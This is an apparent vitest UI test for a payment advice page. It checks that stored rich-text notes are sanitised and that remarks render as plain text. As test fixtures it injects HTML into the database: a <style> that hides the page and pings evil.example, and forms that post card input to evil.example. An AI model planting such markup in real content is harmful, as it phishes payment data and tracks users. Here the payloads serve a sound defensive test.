/**
 * Issue 32 §5: the PA paper renders the notes with the one rich-text allow-list (src/framework/RichTextView.tsx
 * safeRichText), not DOMPurify's defaults, so notes stored before sanitising on save (or written around it)
 * bring no `<style>` that hides or restyles the page and no `<form action=…>` posting elsewhere; Quill's
 * formatting stays. The remarks are plain text and show as text. Against the real in-process server.
 */
import { describe, expect, it, vi } from "vitest";
import { screen, waitFor } from "@testing-library/react";
import { useUiServer } from "../support/ui-server.ts";
import { renderResources, signInAs } from "./framework-harness.tsx";
import { resources } from "../../resources/index.ts";

vi.mock("react-router", async () => (await import("node:module")).createRequire(import.meta.url)("react-router"));

const server = useUiServer();
const wait = { timeout: 30_000 };

describe("payment advice paper", () => {
  it("renders stored notes without <style> or <form>, keeping their formatting; remarks as text", async () => {
    const notes =
      `<style>.pa-paper { display: none } body { background: url(https://evil.example/seen.png) }</style><form action="https://evil.example/pay"><input name="card"><button>Pay now</button></form>` +
      `<p><strong>Late fee</strong> of <span style="color: rgb(230, 0, 0);">$10</span> a week.</p>`;
    const { rows } = await server.db.query<{ id: string }>(
      `update payment_advices set notes = $1, remarks = $2
       where id = (select id from payment_advices where "paymentStatus" = 'unpaid' and status <> 'deleted' order by "issueDate" desc limit 1) returning id`,
      [notes, `<form action="https://evil.example/r">Remark</form>`],
    );
    await signInAs(server.baseUrl, "front_desk");
    await renderResources(resources, `/finance/payment-advice/paper/${rows[0]!.id}`);
    const heading = await waitFor(() => screen.getByRole("heading", { name: "Notes" }), wait);
    const shown = heading.nextElementSibling!;
    expect(shown.querySelector("style, form, input, button")).toBeNull();
    expect(shown.querySelector("strong")?.textContent).toBe("Late fee");
    expect(shown.querySelector("span")?.getAttribute("style")).toBe("color: rgb(230, 0, 0)");
    expect(document.querySelector('form[action^="https://evil.example"]')).toBeNull();
    // no style element on the page comes from the notes
    expect([...document.querySelectorAll("style")].filter((s) => s.textContent?.includes("evil.example"))).toEqual([]);
    expect(screen.getByText(`<form action="https://evil.example/r">Remark</form>`)).toBeTruthy();
  }, 120_000);
});
